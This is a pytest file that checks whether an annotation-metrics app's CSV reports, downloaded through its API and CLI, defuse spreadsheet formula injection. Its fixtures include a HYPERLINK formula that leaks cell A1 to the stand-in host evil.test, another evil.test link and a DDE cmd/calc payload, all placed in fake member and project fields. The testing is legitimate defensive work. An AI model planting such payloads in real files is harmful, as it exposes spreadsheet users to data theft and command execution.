"""CSV formula injection: a hostile name, task id or comment never comes out as a live formula.

Hostile directory records and events go into a real DuckDB store through the ingest path; every
report is then downloaded as CSV through the API (`?format=csv`) and through the CLI
(`labelpulse report ... --format csv`). A spreadsheet reads a cell starting with `=`, `+`, `-`,
`@`, a tab or a carriage return as a formula: each such text cell must come out with a leading
`'` (OWASP), while numbers (negative ones too) stay numbers.
"""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from labelpulse.access import create_token
from labelpulse.config import Settings
from labelpulse.exports.tabular import csv_cell
from labelpulse.ingest import ingest_records
from labelpulse.metrics import REPORTS
from labelpulse.store import connect
from labelpulse.web.app import create_app
from tests.cli.test_cli import invoke

WINDOW = {"from": "2026-03-01", "to": "2026-03-07", "tz": "UTC"}
OWNER_NAME = '=HYPERLINK("http://evil.test/?leak="&A1,"Olive")'
ANN = "@ann"  # a member id that is itself a formula
ANN_NAME = "-Anna+1"
REVIEWER_NAME = "+Rico"
PROJECT = "+p1"
PROJECT_NAME = "\t=cmd|' /C calc'!A0"
TASK = '=HYPERLINK("http://evil.test","open me")'
ANNOTATION = "@a1"
COMMENT = "\r=1+2"

RECORDS: list[dict[str, Any]] = [
    {"kind": "member", "id": "own", "name": OWNER_NAME, "role": "owner"},
    {"kind": "member", "id": ANN, "name": ANN_NAME, "role": "annotator"},
    {"kind": "member", "id": "rev", "name": REVIEWER_NAME, "role": "reviewer"},
    {"kind": "project", "id": PROJECT, "name": PROJECT_NAME},
]
EVENT = {"project": PROJECT, "task": TASK, "annotation": ANNOTATION}
RECORDS += [
    {**EVENT, "id": "e1", "type": "annotation.submitted", "time": "2026-03-02T10:00:00Z",
     "actor": ANN, "duration": 30, "regions_added": 3, "regions_removed": 5},
    {**EVENT, "id": "e2", "type": "review.rejected", "time": "2026-03-02T11:00:00Z",
     "actor": "rev", "duration": 10},
    {**EVENT, "id": "e3", "type": "comment.created", "time": "2026-03-02T11:01:00Z",
     "actor": "rev", "text": COMMENT},
    {**EVENT, "id": "e4", "type": "annotation.updated", "time": "2026-03-03T09:00:00Z",
     "actor": "own", "duration": 20, "regions_removed": 2},
]  # fmt: skip

# The hostile text each report shows (the member report is figures and dates only).
SHOWN: dict[str, set[str]] = {
    "member": set(),
    "timeline": {PROJECT, PROJECT_NAME, TASK, ANNOTATION},
    "comments": {REVIEWER_NAME, PROJECT, PROJECT_NAME, TASK, ANNOTATION, COMMENT},
    "members": {ANN, ANN_NAME, OWNER_NAME},
    "reviewers": {REVIEWER_NAME},
    "insights": {ANN, ANN_NAME, PROJECT, PROJECT_NAME},
    "insights_daily": set(),
    "throughput": set(),
    "insights_projects": {PROJECT, PROJECT_NAME},
    "work": {ANN, ANN_NAME, REVIEWER_NAME, OWNER_NAME},
    "items": {PROJECT, PROJECT_NAME, TASK},
    # FC (deadline forecasts)
    "forecast": {PROJECT, PROJECT_NAME},
    "forecast_members": {PROJECT, PROJECT_NAME, ANN, ANN_NAME},
    # FLAGS: four events raise no flag (the rules need tens of annotations); the flags' own
    # tests check their words.
    "flags": set(),
    "flagged_annotations": set(),
    # PAY: everyone's active time, unpaid ("no rate"), per member and project; the audit list
    # names the item too.
    "pay": {ANN, ANN_NAME, OWNER_NAME, REVIEWER_NAME, PROJECT, PROJECT_NAME},
    "pay_lines": {ANN, ANN_NAME, OWNER_NAME, REVIEWER_NAME, PROJECT, PROJECT_NAME, TASK},
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.duckdb"
    store = connect(str(path))
    summary = ingest_records(store, RECORDS)
    assert summary.as_dict()["rejected"] == 0, summary.as_dict()
    store.close()
    return path


@pytest.fixture(scope="module")
def api(hostile_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    path = tmp_path_factory.mktemp("api") / "hostile.duckdb"
    shutil.copy(hostile_db, path)
    store = connect(str(path))
    token = create_token(store, "own", name="csv", scope="read")[1]
    with TestClient(create_app(store, Settings(db=store.url, timezone="UTC"))) as client:
        client.headers["Authorization"] = f"Bearer {token}"
        yield client
    store.close()


def cells(text: str) -> list[str]:
    return [cell for part in text.split("\n\n") for row in csv.reader(io.StringIO(part))
            for cell in row]  # fmt: skip


def assert_no_live_formula(name: str, text: str) -> None:
    found = cells(text)
    for cell in found:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only a number (a negative one) may start that way
    for hostile in SHOWN[name]:
        assert "'" + hostile in found, f"{name}: {hostile!r} is not there, defused"
        assert hostile not in found, f"{name}: {hostile!r} is a live formula"


@pytest.mark.parametrize("name", REPORTS)
def test_api_csv_defuses_formulas(api: TestClient, name: str) -> None:
    if name in ("member", "timeline", "comments"):
        path = "report" if name == "member" else name
        url = f"/api/members/{ANN}/{path}"
    else:
        url = f"/api/reports/{name}"
    response = api.get(url, params={**WINDOW, "format": "csv"})
    assert response.status_code == 200, response.text
    if name == "member":  # several tables: a ZIP of CSVs, about.csv (names) too
        assert response.headers["content-type"] == "application/zip"
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            text = "\n".join(archive.read(n).decode() for n in archive.namelist())
    else:
        assert response.headers["content-type"].startswith("text/csv")
        text = response.text
    assert_no_live_formula(name, text)


@pytest.mark.parametrize("name", REPORTS)
def test_cli_csv_defuses_formulas(hostile_db: Path, tmp_path: Path, name: str) -> None:
    db = tmp_path / "hostile.duckdb"
    shutil.copy(hostile_db, db)
    member = ["--member", ANN] if name in ("member", "timeline", "comments") else []
    window = ["--from", WINDOW["from"], "--to", WINDOW["to"], "--tz", "UTC"]
    result = invoke(db, "report", name.replace("_", "-"), *member, *window, "--format", "csv")
    assert result.exit_code == 0, result.output
    assert_no_live_formula(name, result.stdout)


def test_numbers_stay_numbers_and_only_text_is_defused() -> None:
    assert csv_cell(-3) == -3
    assert csv_cell(-2.5) == -2.5
    assert csv_cell(None) == ""
    assert csv_cell("-2.5") == "'-2.5"  # text is text, whatever it looks like
    assert csv_cell("Anna") == "Anna"
    assert csv_cell("a=b") == "a=b"
    for start in FORMULA_STARTS:
        assert csv_cell(start + "x") == "'" + start + "x"
